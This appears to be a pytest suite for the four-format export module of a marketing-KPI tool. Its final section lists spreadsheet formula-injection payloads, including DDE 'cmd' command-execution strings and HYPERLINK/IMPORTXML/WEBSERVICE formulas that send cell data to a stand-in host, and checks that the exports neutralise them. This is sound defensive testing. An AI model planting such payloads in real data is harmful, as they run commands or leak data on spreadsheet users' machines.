"""Four formats, the same rows; and nothing in them that a spreadsheet would run."""

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from datetime import date, datetime
from decimal import Decimal
from functools import cache
from pathlib import Path
from typing import Any, ClassVar, Self

import openpyxl
import pyarrow.parquet as pq
import pytest
from conftest import Answer, Vigie
from hypothesis import given, settings
from hypothesis import strategies as st

from worker.report.export import ROW_GROUP, Format, export_to, harmless, write
from worker.store.downstream import Dataset, Extract, Sort

PLAN = """
plan: Spring 2026
currency: EUR
timezone: Europe/Paris
starts: 2026-03-01
ends: 2026-04-30
budget: 1000
people:
  lead: {name: Lea, email: lea@shop.example}
objectives:
  sell: {name: Sell, targets: [{kpi: revenue, at_least: 1000}]}
actions:
  news:
    name: Newsletter
    objectives: [sell]
    responsible: lead
    when: {every: month, on: 1, lasts: 14 days}
    budget: {amount: 2, per: occurrence}
    tracked_by: [{campaign: "news*"}]
    targets: [{kpi: orders, at_least: 100, per: month}]
"""

FIGURES = """day,campaign,sessions,orders,revenue,spend
2026-03-01,news-1,10,1,20.50,5.25
2026-03-02,other,30,3,99.99,10
2026-03-03,news-1,4,0,-12.5,0
"""

#: the file speaks of every day up to the one taken as today: a day without a row is a known zero
SOURCES = "shop: {connector: csv_file, path: figures.csv, covers: {until: 2026-04-02}}"
TODAY = "2026-04-02"

WHATS = [what.value for what in Dataset]
FORMATS = [format.value for format in Format]

#: what a spreadsheet takes for the beginning of a formula
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")


def make(folder: Path, plan: str = PLAN, figures: str = FIGURES, sources: str = SOURCES) -> Vigie:
    settings = "database: sqlite:///vigie.db\nmail: {folder: outbox/}\n"
    files = {"vigie.yaml": settings, "plans/p/plan.yaml": plan, "plans/p/sources.yaml": sources}
    return Vigie(folder, TODAY).write({**files, "plans/p/figures.csv": figures})


@pytest.fixture(scope="module")
def filled(tmp_path_factory: pytest.TempPathFactory) -> Vigie:
    """A store with figures, verdicts, a flag and a message in it."""
    vigie = make(tmp_path_factory.mktemp("filled"))
    assert vigie("run", "--once").code == 0
    return vigie


def written(vigie: Vigie, what: str, format: str, *arguments: str) -> bytes:
    """The file that an export writes; of the KPIs two grains, unless it is said which."""
    return _written(vigie.folder, what, format, *arguments)


@cache  # nothing changes in the stores while they are looked at
def _written(folder: Path, what: str, format: str, *arguments: str) -> bytes:
    vigie, target = Vigie(folder, TODAY), folder / f"out.{format}"
    narrow = ["--grain", "month", "--grain", "occurrence"] if what == "kpis" and not arguments else []
    answer = vigie("export", what, "--format", format, "-o", str(target), *arguments, *narrow)
    assert answer.code == 0, answer.err
    content = target.read_bytes()
    target.unlink()
    return content


def csv_rows(content: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline=""), delimiter=delimiter))


def xlsx_rows(content: bytes) -> list[list[Any]]:
    book = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    rows = [list(row) for row in book["vigie"].iter_rows(values_only=True)]
    book.close()
    return rows


def parquet_rows(content: bytes) -> list[list[Any]]:
    table = pq.read_table(io.BytesIO(content))
    return [table.column_names, *([row[name] for name in table.column_names] for row in table.to_pylist())]


def json_rows(content: bytes) -> list[list[Any]]:
    found = json.loads(content)
    return [list(found[0]), *([*row.values()] for row in found)] if found else []


READERS = {"csv": csv_rows, "xlsx": xlsx_rows, "parquet": parquet_rows, "json": json_rows}


def plain(value: Any) -> Any:
    """A value of any format as JSON has it; what is unknown as None."""
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%dT%H:%M:%SZ")
    return value.isoformat() if isinstance(value, date) else value


# --- the same in every format --------------------------------------------------------------------------------------


@pytest.mark.parametrize("what", WHATS)
def test_parquet_has_the_rows_of_json_to_the_last_digit(filled: Vigie, what: str) -> None:
    expected = json_rows(written(filled, what, "json"))
    assert [[plain(value) for value in row] for row in parquet_rows(written(filled, what, "parquet"))] == expected
    assert len(expected) > 1


@pytest.mark.parametrize("what", WHATS)
def test_csv_has_the_rows_of_json_to_the_last_digit(filled: Vigie, what: str) -> None:
    heads, *expected = json_rows(written(filled, what, "json"))
    found_heads, *found = csv_rows(written(filled, what, "csv"))
    assert found_heads == heads
    assert len(found) == len(expected)
    for row, wanted in zip(found, expected, strict=True):
        for cell, value in zip(row, wanted, strict=True):
            if value is None:
                assert cell == ""
            elif isinstance(value, int | float):
                assert float(cell) == value
            else:
                assert cell == value


@pytest.mark.parametrize("what", WHATS)
def test_xlsx_has_the_rows_of_json_with_the_digits_that_excel_keeps(filled: Vigie, what: str) -> None:
    heads, *expected = json_rows(written(filled, what, "json"))
    found_heads, *found = xlsx_rows(written(filled, what, "xlsx"))
    assert found_heads == heads
    assert len(found) == len(expected)
    for row, wanted in zip(found, expected, strict=True):
        for name, cell, value in zip(heads, row, wanted, strict=True):
            if isinstance(value, int | float):
                assert cell == float(f"{value:.16g}")
            elif name.endswith("_at") and value:
                assert abs(cell - datetime.fromisoformat(value).replace(tzinfo=None)).total_seconds() <= 1
            elif isinstance(cell, datetime):
                assert cell.date().isoformat() == value
            else:
                assert (cell or None) == (value or None)  # an empty text may be an empty cell


def test_kpis_have_the_columns_of_the_contract_in_its_order(filled: Vigie) -> None:
    assert ", ".join(csv_rows(written(filled, "kpis", "csv"))[0]) == (
        "plan, scope, id, kpi, breakdown, grain, period_start, period_end, value, numerator, denominator, unit, "
        "currency, state, computed_at"
    )


def test_parquet_has_typed_columns(filled: Vigie) -> None:
    schema = pq.read_schema(io.BytesIO(written(filled, "kpis", "parquet")))
    types = {name: str(schema.field(name).type) for name in ("plan", "period_start", "value", "computed_at")}
    assert types == {
        "plan": "string",
        "period_start": "date32[day]",
        "value": "double",
        "computed_at": "timestamp[us, tz=UTC]",
    }


# --- the figures ---------------------------------------------------------------------------------------------------


def figure(vigie: Vigie, kpi: str, grain: str, start: str, scope: str = "plan") -> dict[str, Any]:
    return next(row for row in vigie.kpi(kpi, grain=grain, scope=scope) if row["period_start"] == start)


@pytest.mark.parametrize(
    ("kpi", "value", "numerator", "denominator"),
    [
        ("orders", "4", "4", None),  # 1 + 3 + 0
        ("revenue", "107.99", "107.99", None),  # 20.50 + 99.99 - 12.50
        ("spend", "15.25", "15.25", None),
        ("average_basket", "26.9975", "107.99", "4"),  # the ratio of the sums, not the average of the days
        ("conversion_rate", "0.09090909090909091", "4", "44"),
    ],
)
def test_a_month_is_the_sum_of_its_days_and_a_ratio_that_of_the_sums(
    filled: Vigie, kpi: str, value: str, numerator: str, denominator: str | None
) -> None:
    row = figure(filled, kpi, "month", "2026-03-01")
    assert (row["value"], row["numerator"]) == (float(value), float(numerator))
    assert row["denominator"] == (float(denominator) if denominator else None)
    assert (row["period_end"], row["state"]) == ("2026-04-01", "final")


def test_a_negative_number_stays_a_number_in_every_format(filled: Vigie) -> None:
    day = ("--since", "2026-03-03", "--until", "2026-03-03")
    heads, only = csv_rows(written(filled, "readings", "csv", *day))
    place = heads.index("revenue")
    assert only[place] == "-12.5"
    assert xlsx_rows(written(filled, "readings", "xlsx", *day))[1][place] == -12.5
    assert parquet_rows(written(filled, "readings", "parquet", *day))[1][place] == -12.5
    assert json_rows(written(filled, "readings", "json", *day))[1][place] == -12.5


@pytest.mark.parametrize("format", FORMATS)
def test_what_is_unknown_is_an_empty_cell(filled: Vigie, format: str) -> None:
    """On 3 March there was no order: the average basket has no value, and the file says nothing of new customers."""
    content = written(filled, "kpis", format, "--grain", "day", "--since", "2026-03-03", "--until", "2026-03-03")
    heads, *rows = READERS[format](content)
    by_kpi = {row[heads.index("kpi")]: row for row in rows if row[heads.index("scope")] == "plan"}
    assert by_kpi["average_basket"][heads.index("value")] in (None, "")
    assert by_kpi["cost_per_customer"][heads.index("value")] in (None, "")
    assert float(by_kpi["revenue"][heads.index("value")]) == -12.5


# --- a part of it --------------------------------------------------------------------------------------------------


def test_grain_leaves_only_the_grains_named(filled: Vigie) -> None:
    rows = filled.export("kpis", "--grain", "week", "--grain", "occurrence")
    assert {row["grain"] for row in rows} == {"week", "occurrence"}


def test_without_grain_every_grain_is_there(filled: Vigie) -> None:
    grains = {row["grain"] for row in filled.export("kpis")}
    assert grains == {"day", "week", "month", "quarter", "occurrence", "to_date"}


def test_since_and_until_leave_the_periods_that_meet_those_days_both_included(filled: Vigie) -> None:
    rows = filled.export("kpis", "--grain", "week", "--since", "2026-03-08", "--until", "2026-03-16")
    # 8 March is the last day of the week of 2 March, 16 March the first of its week.
    assert {row["period_start"] for row in rows} == {"2026-03-02", "2026-03-09", "2026-03-16"}


@pytest.mark.parametrize(
    ("since", "until", "days"),
    [
        ("2026-03-02", "2026-03-02", ["2026-03-02"]),
        ("2026-03-02", None, ["2026-03-02", "2026-03-03"]),
        (None, "2026-03-02", ["2026-03-01", "2026-03-02"]),
    ],
)
def test_readings_are_narrowed_to_days(filled: Vigie, since: str | None, until: str | None, days: list[str]) -> None:
    bounds = [*(["--since", since] if since else []), *(["--until", until] if until else [])]
    assert [row["day"] for row in filled.export("readings", *bounds)] == days


def test_coverage_is_narrowed_to_days(filled: Vigie) -> None:
    rows = filled.export("coverage", "--since", "2026-03-31", "--until", "2026-04-01")
    assert [row["day"] for row in rows] == ["2026-03-31", "2026-04-01"]


@pytest.mark.parametrize("what", ["verdicts", "budgets"])
def test_judgements_are_narrowed_to_the_periods_that_meet_the_days(filled: Vigie, what: str) -> None:
    everything = filled.export(what)
    rows = filled.export(what, "--since", "2026-04-01")
    assert rows == [row for row in everything if row["period_end"] > "2026-04-01"]
    assert 0 < len(rows) < len(everything)


def test_messages_are_narrowed_to_the_days_they_were_written_on(filled: Vigie) -> None:
    assert len(filled.export("messages", "--since", "2000-01-01", "--until", "2999-01-01")) == 1
    assert filled.export("messages", "--until", "2000-01-01") == []
    assert filled.export("messages", "--since", "2999-01-01") == []


def test_an_end_before_the_beginning_is_refused(filled: Vigie) -> None:
    answer = filled("export", "kpis", "--format", "csv", "--since", "2026-03-02", "--until", "2026-03-01")
    assert (answer.code, answer.out) == (2, "")
    assert "--until: 2026-03-01 is before --since 2026-03-02" in answer.err


def test_today_bounds_what_is_to_date(filled: Vigie) -> None:
    rows = filled.kpi("orders", grain="to_date", today="2026-03-01")
    assert [(row["period_end"], row["value"]) for row in rows] == [("2026-03-02", 1)]


def test_only_the_plans_asked_for_are_exported(tmp_path: Path) -> None:
    vigie = make(tmp_path)
    vigie.write({"plans/q/plan.yaml": PLAN, "plans/q/sources.yaml": SOURCES, "plans/q/figures.csv": FIGURES})
    assert vigie("collect").code == 0
    assert {row["plan"] for row in vigie.export("readings")} == {"p", "q"}
    assert {row["plan"] for row in vigie.export("readings", "--plan", "q")} == {"q"}


# --- where it goes -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("format", FORMATS)
def test_without_a_file_it_goes_to_standard_output_and_nothing_else_does(filled: Vigie, format: str) -> None:
    answer = filled("export", "readings", "--format", format)
    content = answer.out.encode("utf-8", "surrogateescape")
    assert (answer.code, answer.err) == (0, "")
    assert len(READERS[format](content)) == 4


@pytest.mark.parametrize("format", ["xlsx", "parquet"])
def test_a_binary_format_is_refused_on_a_terminal(filled: Vigie, format: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("conftest.Captured.isatty", lambda _: True)
    answer = filled("export", "kpis", "--format", format)
    assert (answer.code, answer.out) == (2, "")
    assert f"{format} cannot be read on a terminal: name a file with -o" in answer.err


def test_what_was_written_is_said(filled: Vigie, tmp_path: Path) -> None:
    target = tmp_path / "readings.csv"
    answer = filled("export", "readings", "--format", "csv", "-o", str(target))
    assert answer.out == f"{target}: 3 rows\n"
    answer = filled("export", "readings", "--format", "csv", "-o", str(target), "--json")
    assert answer.json == {"written": str(target), "rows": 3}


@pytest.mark.parametrize("format", FORMATS)
def test_a_file_that_cannot_be_written_is_a_sentence_and_leaves_nothing(
    filled: Vigie, format: str, tmp_path: Path
) -> None:
    (tmp_path / "file").write_text("no folder")
    for target in (tmp_path / "absent" / "x", tmp_path / "file" / "x", tmp_path):
        answer = filled("export", "budgets", "--format", format, "-o", str(target))
        assert answer.code == 2
        assert "cannot be written" in answer.err
        assert "Traceback" not in answer.err
    assert [path.name for path in tmp_path.iterdir()] == ["file"]


class _Interrupted(Exception):
    pass


@pytest.mark.parametrize("format", list(Format))
def test_a_file_is_whole_or_as_it_was(format: Format, tmp_path: Path) -> None:
    def rows() -> Iterator[tuple[str, float]]:
        yield from (("x", 1.0) for _ in range(ROW_GROUP + 1))
        raise _Interrupted

    target = tmp_path / "export"
    target.write_text("of yesterday")
    with pytest.raises(_Interrupted):
        export_to(Extract((("a", Sort.TEXT), ("b", Sort.NUMBER)), rows()), format, target)
    assert target.read_text() == "of yesterday"
    assert list(tmp_path.iterdir()) == [target]


class _Row(tuple[str, float]):
    """A row that counts how many of its kind are alive."""

    alive: ClassVar[int] = 0

    def __new__(cls, text: str, number: float) -> Self:
        cls.alive += 1
        return super().__new__(cls, (text, number))

    def __del__(self) -> None:
        _Row.alive -= 1


class _Nowhere(io.RawIOBase):
    """Takes everything and keeps nothing."""

    def writable(self) -> bool:
        return True

    def write(self, content: Any) -> int:
        return len(content)


@pytest.mark.parametrize("format", list(Format))
def test_a_large_export_never_holds_all_its_rows(format: Format) -> None:
    most, total = 0, 3 * ROW_GROUP

    def rows() -> Iterator[_Row]:
        nonlocal most
        for number in range(total):
            yield _Row("x", number)
            most = max(most, _Row.alive)

    found = Extract((("a", Sort.TEXT), ("b", Sort.NUMBER)), rows())
    assert write(found, format, _Nowhere()) == total  # type: ignore[arg-type]
    assert most <= (2 * ROW_GROUP + 2 if format is Format.PARQUET else 3)


def test_more_rows_than_a_sheet_takes_go_on_further_sheets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("worker.report.export.SHEET_ROWS", 10)
    out = io.BytesIO()
    write(Extract((("n", Sort.NUMBER),), ((float(n),) for n in range(25))), Format.XLSX, out)
    book = openpyxl.load_workbook(out)
    assert [[cell.value for cell in sheet["A"]] for sheet in book] == [
        ["n", *range(10)],
        ["n", *range(10, 20)],
        ["n", *range(20, 25)],
    ]


# --- an empty store ------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def empty(tmp_path_factory: pytest.TempPathFactory) -> Vigie:
    """A database at the current migration, with nothing in it."""
    vigie = make(tmp_path_factory.mktemp("empty"))
    assert vigie("db", "upgrade").code == 0
    return vigie


@pytest.mark.parametrize(("what", "format"), [*((what, "csv") for what in WHATS), *(("kpis", f) for f in FORMATS)])
def test_a_store_without_figures_gives_no_rows(what: str, format: str, empty: Vigie) -> None:
    content = written(empty, what, format)
    assert len(READERS[format](content)) == (0 if format == "json" else 1)


@pytest.mark.parametrize("what", WHATS)
def test_without_a_store_it_says_what_to_do_first(what: str, tmp_path: Path) -> None:
    answer = make(tmp_path)("export", what, "--format", "csv")
    assert (answer.code, answer.out) == (2, "")
    assert "run 'vigie collect'" in answer.err


# --- what comes from the web is hostile ----------------------------------------------------------------------------

PAYLOADS = [
    "=1+1",
    "=A1",
    "=",
    "+",
    "-",
    "@",
    "==1",
    "=-1",
    "--1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=IMPORTDATA("http://evil.example")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"!A0")',
    '=INDIRECT("A1")',
    '=EXEC("calc.exe")',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '="a"&"b"',
    "=$A$1:$Z$9",
    "{=1+1}",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\t=1+1",
    " =1+1",
    "x;=1+1",
    "x;+1;-1;@A1",
    '";=1+1',
    '"=1+1"',
    "'=1+1",
    "=1+1\n=2+2",
    "%0A=1+1",
    "http://evil.example/",
    "https://evil.example/?=1",
    "ftp://evil.example/",
    "mailto:evil@evil.example",
    "file:///etc/passwd",
    "internal:Sheet1!A1",
    "external:c:\\evil.xlsx",
]

HOSTILE_COLUMNS = ("campaign", "coupon", "keyword", "source", "content", "landing_page")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Vigie:
    """A plan whose figures bear every payload, and whose own name and note are formulas too."""
    out = io.StringIO(newline="")
    rows = csv.writer(out)
    rows.writerow(["day", *HOSTILE_COLUMNS, "revenue", "spend", "search_impressions", "position_weight"])
    for payload in PAYLOADS:
        rows.writerow(["2026-03-01", *[payload] * len(HOSTILE_COLUMNS), "-12.5", "5", "10", "20"])
    plan = PLAN.replace("plan: Spring 2026", "plan: '=1+1'").replace('"news*"', '"*"')
    vigie = make(tmp_path_factory.mktemp("hostile"), plan, out.getvalue())
    answer: Answer = vigie("run", "--once")
    assert answer.code == 0, answer.err
    [flag, *_] = vigie("flags", "--json").json
    assert vigie("flags", "ack", str(flag["id"]), "--note", "=cmd|' /C calc'!A0").code == 0
    return vigie


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_payloads_are_in_the_store(hostile: Vigie) -> None:
    campaigns = {row["campaign"] for row in hostile.export("readings")}
    assert {payload for payload in PAYLOADS if payload == " ".join(payload.split())} <= campaigns


@pytest.mark.parametrize("what", WHATS)
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_no_csv_cell_begins_like_a_formula(hostile: Vigie, what: str, delimiter: str) -> None:
    """Read as it is written, and as a spreadsheet reads it in a country where the semicolon parts columns."""
    cells = [cell for row in csv_rows(written(hostile, what, "csv"), delimiter) for cell in row]
    assert len(cells) > 1
    assert [cell for cell in cells if cell.startswith(TRIGGERS) and not is_number(cell)] == []


@pytest.mark.parametrize("what", WHATS)
def test_xlsx_has_neither_formula_nor_link(hostile: Vigie, what: str) -> None:
    with zipfile.ZipFile(io.BytesIO(written(hostile, what, "xlsx"))) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert "<f>" not in sheet
    assert "<f " not in sheet
    assert "<hyperlink" not in sheet
    assert not any("sheet1.xml.rels" in name or "externalLink" in name for name in parts)


def test_xlsx_json_and_parquet_keep_the_text_as_it_is(hostile: Vigie) -> None:
    heads, *rows = json_rows(written(hostile, "readings", "json"))
    place = heads.index("campaign")
    expected = [row[place] for row in rows]
    assert "=1+1" in expected
    assert [row[place] for row in parquet_rows(written(hostile, "readings", "parquet"))[1:]] == expected
    assert [row[place] for row in xlsx_rows(written(hostile, "readings", "xlsx"))[1:]] == expected


def test_numbers_beside_hostile_text_are_numbers(hostile: Vigie) -> None:
    heads, *rows = csv_rows(written(hostile, "readings", "csv"))
    assert {row[heads.index("revenue")] for row in rows} == {"-12.5", "-37.5"}  # three payloads differ in space alone
    heads, *cells = xlsx_rows(written(hostile, "readings", "xlsx"))
    assert {row[heads.index("revenue")] for row in cells} == {-12.5, -37.5}


@settings(max_examples=60, deadline=None)
@given(st.lists(st.one_of(st.sampled_from([*TRIGGERS, ";", "'", '"', ","]), st.text()), max_size=8).map("".join))
def test_any_text_is_harmless_and_nothing_but_apostrophes_is_added(text: str) -> None:
    found = harmless(text)
    assert not any(part.startswith(TRIGGERS) for part in found.split(";"))
    assert found.replace("'", "") == text.replace("'", "")


@settings(max_examples=25, deadline=None)
@given(st.decimals(allow_nan=False, allow_infinity=False, places=6, min_value=-(10**12), max_value=10**12))
def test_every_number_comes_back_equal(number: Decimal) -> None:
    value = float(number)
    for format in Format:
        out = io.BytesIO()
        write(Extract((("n", Sort.NUMBER),), [(value,)]), format, out)
        found = float(READERS[format](out.getvalue())[1][0])
        assert found == (float(f"{value:.16g}") if format is Format.XLSX else value)
